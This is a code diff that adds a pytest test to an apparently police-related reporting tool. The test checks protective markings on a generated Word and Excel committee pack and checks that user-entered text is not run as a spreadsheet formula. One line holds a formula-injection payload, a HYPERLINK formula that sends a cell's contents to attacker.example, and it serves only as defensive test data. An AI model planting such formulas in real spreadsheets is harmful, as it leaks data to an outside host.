@@ -91,3 +91,33 @@ def _look(docx: Path) -> None:
     pdf = docx.with_suffix(".pdf")
     subprocess.run(["pdftoppm", "-png", "-r", "60", str(pdf), str(ARTIFACTS / "pack")], check=True, timeout=60)
     assert list(ARTIFACTS.glob("pack*.png"))
+
+
+def test_the_pack_is_marked_and_its_workbook_runs_nothing_typed(
+    assigned, cli_in_process, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+):
+    """The committee pack carries the protective marking as the returns do (Word header and footer on every page,
+    every sheet's printed header and footer), and a reason an owner typed that a spreadsheet would run is text.
+    """
+    monkeypatch.setenv("ACTIONED_MARKING", "OFFICIAL-SENSITIVE")
+    cli = cli_in_process
+    moved = _wiltshire("5")
+    hostile = '=HYPERLINK("https://attacker.example/?"&A1,"Click for details")'
+    assert cli("action", "due", str(moved), "--to", "2021-09-30", "--reason", hostile, "--by", OWNER).code == 0
+    result = cli(
+        "pack", "--agency", "wiltshire-police", "--since", "2020-12-01", "--today", "2021-06-20",
+        "--next", "2021-10-15", "--out", str(tmp_path),
+    )  # fmt: skip
+    assert result.code == 0, result.stderr
+
+    document = Document(str(tmp_path / "pack-wiltshire-police-2021-06-20.docx"))
+    for section in document.sections:
+        assert section.header.paragraphs[0].text == "OFFICIAL-SENSITIVE"
+        assert section.footer.paragraphs[0].text == "OFFICIAL-SENSITIVE"
+    book = load_workbook(tmp_path / "pack-wiltshire-police-2021-06-20.xlsx")
+    for sheet in book.worksheets:
+        assert sheet.oddHeader.center.text == "OFFICIAL-SENSITIVE", sheet.title
+        assert sheet.oddFooter.center.text == "OFFICIAL-SENSITIVE", sheet.title
+    reason = book["Target dates changed"]["E2"]
+    assert reason.value == "'" + hostile
+    assert reason.data_type == "s"  # text, not a formula
